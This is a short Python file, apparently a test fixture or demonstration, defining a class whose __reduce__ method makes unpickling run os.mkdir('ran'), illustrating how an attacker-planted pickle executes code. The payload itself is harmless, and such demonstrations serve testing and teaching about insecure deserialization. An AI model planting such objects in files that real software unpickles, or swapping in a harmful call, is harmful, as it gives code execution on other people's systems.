"""What an attacker puts where a file is read, to be unpickled."""

import os


class Planted:
    """Whoever unpickles it makes the folder `ran`."""

    def __reduce__(self):
        return os.mkdir, ("ran",)
